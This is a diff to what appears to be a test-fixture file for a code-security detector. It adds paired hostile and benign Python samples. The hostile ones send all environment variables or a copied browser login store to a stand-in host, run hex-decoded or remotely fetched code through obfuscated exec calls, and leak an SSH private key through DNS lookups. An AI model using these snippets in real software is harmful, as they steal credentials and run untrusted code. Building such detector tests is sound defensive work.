@@ -22,9 +22,21 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a name from a named place": py(
             f"import sys, requests\nsys.modules['%(a)stins' % {{'a': 'buil'}}].exec({_GET})\n"
         ),
+        "gathered in a list": py(
+            f"import requests\nclass Parts:\n    def __init__(self): self.all = []\n"
+            f"    def take(self): self.all.append({_GET})\n    def show(self): exec(''.join(self.all))\n",
+            line=4,
+        ),
         "by attrgetter": py(f"import operator, builtins, requests\noperator.attrgetter('exec')(builtins)({_GET})\n"),
         "the first of a list": py(f"import requests\nnext(iter([exec]))({_GET})\n"),
         "a method by getattr": py(f"import requests\ngetattr({{'a': eval}}, 'get')('a')({_GET})\n"),
+    },
+    "decoded_code": {
+        "one of a table, by a name that is given": py(
+            "import binascii, sys\nlevels = {'a': '7072696e7428276127290a', 'b': '7072696e7428276227290a'}\n"
+            "exec(binascii.unhexlify(levels[sys.argv[1]]))\n",
+            line=3,
+        ),
     },
     "remote_object": {
         "a tuple of objects that are asked in turn": Sample(
@@ -52,6 +64,24 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("machine.py", 6),
         ),
+        "the environment, one by one": py(
+            "import os, requests\nlines = []\nfor k, v in os.environ.items():\n    lines.append(f'{k}={v}')\n"
+            "requests.post('https://a.invalid', data='&'.join(lines))\n",
+            line=3,
+        ),
+        "the environment by its names": py(
+            "import os, requests\nall_of = {name: os.environ[name] for name in os.environ}\n"
+            "requests.post('https://a.invalid', json=all_of)\n"
+        ),
+        "a copy of the environment": py(
+            "import os, json, requests\nt = json.dumps(os.environ.copy())\nrequests.post('https://a.invalid', data=t)\n"
+        ),
+        "a copy of a store": py(
+            "import os, shutil, requests\nfor spot in [os.path.expanduser('~/.mozilla/a/logins.json')]:\n"
+            "    shutil.copyfile(spot, '/tmp/a.db')\n    with open('/tmp/a.db', 'rb') as f:\n"
+            "        requests.post('https://a.invalid', files={'f': f})\n",
+            line=3,
+        ),
         "as a name to be looked up": py(
             "import socket\nkey = open('/root/.ssh/id_rsa', 'rb').read()\n"
             "socket.gethostbyname(key[:30].hex() + '.a.invalid')\n",
@@ -74,10 +104,19 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "a template that names something else": {
             "app.py": f"import sys, requests\nsys.modules['%s%s' % ('pri', 'nts')].show({_GET})\n"
         },
+        "gathered in another list": {
+            "app.py": f"import requests\na, b = [], []\na.append({_GET})\nb.append('x = 1')\nexec(''.join(b))\n"
+        },
         "attrgetter of another member": {
             "app.py": f"import operator, builtins, requests\noperator.attrgetter('len')(builtins)({_GET})\n"
         },
         "the first of a list of something else": {"app.py": f"import requests\nnext(iter([len, exec]))({_GET})\n"},
+    },
+    "decoded_code": {
+        "one of a table is shown": {
+            "app.py": "import binascii, sys\nlevels = {'a': '7072696e7428276127290a', 'b': '7072696e7428276227290a'}\n"
+            "print(binascii.unhexlify(levels[sys.argv[1]]))\n"
+        },
     },
     "remote_object": {
         "a tuple of objects, and a reader of plain data": {
@@ -97,6 +136,24 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "        return b''.join(path.read_bytes() for path in paths)\n",
             "out.py": "import requests\nclass Out:\n    def __init__(self, url): self.url = url\n"
             "    def put(self, data): requests.post(self.url, data=data)\n",
+        },
+        "some of the environment, by name": {
+            "app.py": "import os, requests\nlines = []\nfor key, value in os.environ.items():\n"
+            "    if key.startswith('APP_'):\n        lines.append(f'{key}={value}')\n"
+            "requests.post('https://a.invalid', data='&'.join(lines))\n"
+        },
+        "the proxies of the environment": {
+            "app.py": "import os, requests\nfound = {}\nfor name, value in os.environ.items():\n"
+            "    if value and name[-6:] == '_proxy':\n        found[name[:-6]] = value\n"
+            "requests.get('https://a.invalid', proxies=found)\n"
+        },
+        "the environment of a program": {
+            "app.py": "import os, subprocess, requests\nhere = os.environ.copy()\n"
+            "log = subprocess.check_output(['git', 'log'], env=here)\nrequests.post('https://a.invalid', data=log)\n"
+        },
+        "a copy of a store, and another file sent": {
+            "app.py": "import os, shutil, requests\nshutil.copyfile(os.path.expanduser('~/.netrc'), '/tmp/a.db')\n"
+            "requests.post('https://a.invalid', data=open('/tmp/b.db', 'rb').read())\n"
         },
         "a host is looked up": {
             "app.py": "import socket\nkey = open('/root/.ssh/id_rsa', 'rb').read()\nsocket.gethostbyname('a.invalid')\n"
